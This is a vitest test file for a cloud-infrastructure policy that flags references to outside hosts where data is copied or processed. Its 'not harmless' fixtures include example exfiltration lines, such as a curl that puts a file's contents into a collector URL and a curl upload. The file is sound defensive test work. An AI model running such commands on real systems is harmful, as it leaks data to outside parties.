/** What runs, moves or holds is read; what the facts say to be harmless is not, unless something is sent. */
import { expect, test } from "vitest";
import { mentionsOf } from "../../../policies/border/references/mentions.ts";
import type { Entry } from "../../../policies/border/terms/entry.ts";
import type { Inputs } from "../../../policies/border/terms/value.ts";
import { buildMadeUp, madeUpFacts, resource } from "../made-up-estate.ts";

const runs: Entry = { type: "aws:a/function:Function", kinds: ["processes"], harmless: ["code"] };
const tells: Entry = { type: "aws:a/template:Template", kinds: ["inert"], instructs: true };
const shows: Entry = { type: "aws:a/dashboard:Dashboard", kinds: ["inert"] };

function mentions(inputs: Inputs, type = runs.type) {
  const estate = buildMadeUp([resource("one", { type, inputs })], madeUpFacts([runs, tells, shows]));
  return [...estate.byUrn.values()]
    .flatMap((node) => mentionsOf(node, estate))
    .map(({ word, verb, what }) => [word, verb, what]);
}

const abroad = "https://sqs.us-east-1.amazonaws.com/1/q";
const virginia = [["sqs.us-east-1.amazonaws.com", "process", "content"]];

test("types that run, tell, belong to another provider or stand on no list are read, others are not", () => {
  const inputs = { env: { X: abroad } };
  expect(mentions(inputs)).toEqual(virginia);
  expect(mentions(inputs, tells.type)).toEqual(virginia);
  expect(mentions(inputs, "kubernetes:core/v1:ConfigMap")).toEqual(virginia);
  expect(mentions(inputs, "aws:a/new:New")).toEqual(virginia);
  expect(mentions(inputs, shows.type)).toEqual([]);
  expect(mentions(inputs, "random:index:Password")).toEqual([]);
});

test("the words say what becomes of the data, and one place is one mention", () => {
  expect(mentions({ env: { LOG_ARCHIVE: abroad } })).toEqual([["sqs.us-east-1.amazonaws.com", "copy", "logs"]]);
  expect(mentions({ env: { A: abroad, REGION: "us-east-1", EXPORT: abroad } })).toEqual([
    ["sqs.us-east-1.amazonaws.com", "copy", "content"],
  ]);
  expect(mentions({ env: { LOG_ARCHIVE: abroad, A: abroad } })).toEqual([
    ["sqs.us-east-1.amazonaws.com", "copy", "content"],
  ]);
  expect(mentions({ logs: abroad })).toEqual([["sqs.us-east-1.amazonaws.com", "copy", "logs"]]);
  expect(mentions({ env: { X: `${abroad}/log` } })).toEqual([["sqs.us-east-1.amazonaws.com", "copy", "logs"]]);
});

test("a place that one word only names, and another knows what lies there, is one where something lies", () => {
  const outbox = resource("outbox", { provider: { region: "us-east-1" }, inputs: { bucket: "outbox" } });
  const node = resource("one", { type: runs.type, inputs: { env: { A: abroad, B: "s3://outbox/in" } } });
  const estate = buildMadeUp([outbox, node], madeUpFacts([runs]));
  const one = estate.byUrn.get("urn:one");
  expect(one && mentionsOf(one, estate)).toMatchObject([{ held: true }]);
});

test("a component does nothing itself", () => {
  const estate = buildMadeUp([
    resource("one", { type: "my:own:Thing", custom: false, inputs: { env: { X: abroad } } }),
  ]);
  expect([...estate.byUrn.values()].flatMap((node) => mentionsOf(node, estate))).toEqual([]);
});

test.each<[string, Inputs]>([
  ["a word under a harmless key", { settings: { description: abroad } }],
  ["a word under a key that is harmless anywhere", { env: { ISSUER: abroad } }],
  ["a property that the entry says to be harmless", { code: abroad }],
  ["an ARN of a harmless service", { env: { X: "arn:aws:acm:us-east-1:1:certificate/x" } }],
  ["a host that only gives out", { script: "curl https://mirror.packages.example/a" }],
  ["a host in the network", { env: { X: "http://db.local" } }],
  ["what is only fetched", { script: "curl -O https://collector.example/a.tgz" }],
  ["an image that is pulled", { env: { X: "https://1.dkr.ecr.us-east-1.amazonaws.com/x" } }],
  ["where people's browsers are sent", { env: { CALLBACK_URL: "https://shop.example/x" } }],
  ["words under a harmless key", { settings: { description: [abroad, "x"] } }],
  ["an ARN of a harmless service of Alibaba Cloud", { env: { X: "acs:acm:cn-hangzhou:1:certificate/x" } }],
  ["a bucket of Alibaba Cloud anybody may read", { env: { X: "acs:oss:*:*:public-agents/x" } }],
  ["a bucket anybody may read, by its address", { env: { X: "https://public-agents.s3.us-east-1.amazonaws.com/x" } }],
  ["an image of Alibaba Cloud", { env: { X: "registry.cn-hangzhou.aliyuncs.com/acme/x:1" } }],
  ["where people's browsers are sent, by a property", { callbackUrl: "https://shop.example/x" }],
  ["by a name beside it", { env: [{ name: "CALLBACK_URL", value: "https://shop.example/x" }] }],
  ["by a host like one of a cloud", { env: { CALLBACK_URL: "https://sqs.amazonaws.com.shop.example/x" } }],
  ["by a host that begins with a digit", { env: { CALLBACK_URL: "https://1shop.example/x" } }],
  ["a bucket anybody may read", { script: "aws s3 cp s3://public-agents/x ." }],
  ["whose pages may call", { env: { ALLOWED_ORIGINS: "https://app.partner.example" } }],
])("harmless: %s", (_, inputs) => {
  expect(mentions(inputs)).toEqual([]);
});

test("a host of the company's own domain is its own address, and under another variable anywhere", () => {
  const zone = resource("zone", { type: "aws:a/zone:Zone", inputs: { domain: "acme.example" } });
  const told = (env: Inputs) => {
    const app = resource("app", { type: runs.type, inputs: { env } });
    const estate = buildMadeUp([zone, app], madeUpFacts([runs, { type: "aws:a/zone:Zone", kinds: ["inert"] }]));
    return [...estate.byUrn.values()].flatMap((node) => mentionsOf(node, estate)).map(({ word }) => word);
  };
  expect(told({ SITE_URL: "https://api.acme.example/v1" })).toEqual([]);
  expect(told({ SINK: "https://api.acme.example/v1" })).toEqual(["api.acme.example"]);
  const beside = "https://api.acme.example.partner.example/v1";
  expect(told({ SITE_URL: beside })).toEqual(["api.acme.example.partner.example"]);
});

test("the address of something of the stack tells where that lies, also one that leads out of no network", () => {
  const own = resource("db", {
    type: runs.type,
    names: ["10.1.2.3", "db.corp.internal"],
    provider: { region: "us-east-1" },
  });
  const told = (X: string) => {
    const app = resource("app", { type: runs.type, inputs: { env: { X } } });
    const estate = buildMadeUp([own, app], madeUpFacts([runs]));
    return [...estate.byUrn.values()].flatMap((node) => mentionsOf(node, estate)).map(({ word }) => word);
  };
  expect(told("http://10.1.2.3/in")).toEqual(["10.1.2.3"]);
  expect(told("10.1.2.3:5432")).toEqual(["10.1.2.3:5432"]);
  expect(told("http://db.corp.internal")).toEqual(["db.corp.internal"]);
  expect(told("http://10.1.2.4/in")).toEqual([]);
});

test.each<[string, Inputs]>([
  ["a document under a harmless key", { settings: { description: { more: { X: abroad } } } }],
  ["a variable that somebody called like a harmless key", { environment: { variables: { DESCRIPTION: abroad } } }],
  ["an address in digits, whole or with a port", { env: { X: "203.0.113.9" } }],
  ["one with a port", { env: { X: "203.0.113.9:5432" } }],
  ["nothing under a harmless key", { settings: { description: null, X: abroad } }],
  ["a word and more under a harmless key", { settings: { description: { a: "x", more: { X: abroad } } } }],
  ["a bucket of somebody else, by its address", { env: { X: "https://people.s3.us-east-1.amazonaws.com/x" } }],
  ["a vendor whose pages may call", { env: { ALLOWED_ORIGINS: "https://app.vendor.example" } }],
  ["a vendor under a key of browsers", { env: { CALLBACK_URL: "https://app.vendor.example/x" } }],
  ["a cloud under a key of pages", { env: { ALLOWED_ORIGINS: "https://sqs.us-east-1.amazonaws.com" } }],
  ["a number under a key of browsers", { env: { CALLBACK_URL: "https://203.0.113.9/x" } }],
  ["what is sent to a host that only gives out", { script: "curl -T x https://packages.example/a" }],
  ["what is filled into an address", { script: "curl https://collector.example/?q=$(cat x)" }],
  ["an image that is pushed", { script: "docker push 1.dkr.ecr.us-east-1.amazonaws.com/x" }],
  ["a vendor whose pages may call", { env: { ALLOWED_ORIGINS: "https://app.vendor.example" } }],
  ["a vendor under a key of browsers", { env: { CALLBACK_URL: "https://in.vendor.example/x" } }],
  ["a cloud's host under a key of browsers", { env: { CALLBACK_URL: abroad } }],
])("not harmless: %s", (_, inputs) => {
  expect(mentions(inputs)).not.toEqual([]);
});
